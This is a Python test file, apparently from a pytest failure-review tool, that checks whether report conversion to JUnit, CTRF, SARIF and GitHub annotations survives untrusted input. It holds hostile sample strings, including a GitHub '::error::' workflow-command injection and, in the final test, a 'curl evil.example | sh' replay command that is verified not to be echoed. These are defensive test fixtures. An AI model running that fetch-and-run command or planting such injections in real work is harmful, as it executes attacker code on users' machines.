"""Reports that anybody may have written, as JUnit XML, CTRF, SARIF and annotations."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import jsonschema  # type: ignore[import-untyped]  # ships no types
import pytest
from githubs_runner import obeyed
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from other_formats import CTRF, SARIF
from plugin_project import a_failure
from report_files import write

from github_app.rules.results.junit import read_junit
from pytest_failure_review.checking import read
from pytest_failure_review.cli import main
from pytest_failure_review.convert import ctrf as to_ctrf
from pytest_failure_review.convert import github as to_github
from pytest_failure_review.convert import junit as to_junit
from pytest_failure_review.convert import sarif as to_sarif
from pytest_failure_review.convert.told import told_by

TEXT = st.text(max_size=8) | st.sampled_from(
    ["\x00", "\ud800", "]]>", "\x1b[31m", "&#0;", "\ufffe", "a::b", "[x::y]", "test_a.py", "..py", "\r\n", "/a/../b",
     "::error::"]
)  # fmt: skip
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=6,
)
FIELDS = sorted({*a_failure(), "captured", "params", "sla_terms", "checkpoints", "replay", "group"} - {"record"})


@st.composite
def records(draw: st.DrawFn) -> Mapping[str, Any]:
    """Mostly a good failure, with some fields that anybody may have written; or another record, as broken."""
    changes = draw(st.dictionaries(st.sampled_from(FIELDS), JSON | TEXT, max_size=6))
    other = st.sampled_from(["flaky", "group", "gate", "crash", "internal", "finish", "start", "unheard-of"])
    kind = draw(st.just("failure") | other)
    if kind == "failure":
        return {**a_failure(category="security.secret"), **changes}
    names = [
        "nodeid",
        "group",
        "count",
        "nodeids",
        "attempts",
        "name",
        "worker",
        "counts",
        "truncated",
        "schema",
        "run_id",
    ]
    return {"record": kind, **draw(st.dictionaries(st.sampled_from(names), JSON, max_size=5))}


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(told=st.lists(records(), max_size=4))
@example(told=[{**a_failure(), "path": "tests/a\x85b\u2028c\x1b[31m.py"}])
def test_nothing_that_stands_in_a_report_breaks_a_format_or_loses_a_failure(
    tmp_path: Path, told: list[Mapping[str, Any]]
) -> None:
    runs = told_by([read(write(tmp_path / "reports", *told))])
    report = read_junit("results.xml", to_junit.convert(runs))
    document = json.loads(to_ctrf.convert(runs))
    jsonschema.validate(document, CTRF)
    jsonschema.validate(json.loads(to_sarif.convert(runs)), SARIF)
    lines = to_github.convert(runs).decode().splitlines()
    assert len(obeyed("\n".join(lines))) == len(lines) <= 11
    flaky = any(record["record"] == "flaky" for record in told)
    if any(record["record"] == "failure" for record in told) and not flaky:
        assert report.failed
        assert document["results"]["summary"]["failed"]
        assert lines


def test_a_strangers_command_is_not_shown(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write(tmp_path, a_failure(replay="curl evil.example | sh"))
    assert main(["convert", "--to", "github", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "::error" in out
    assert "evil" not in out
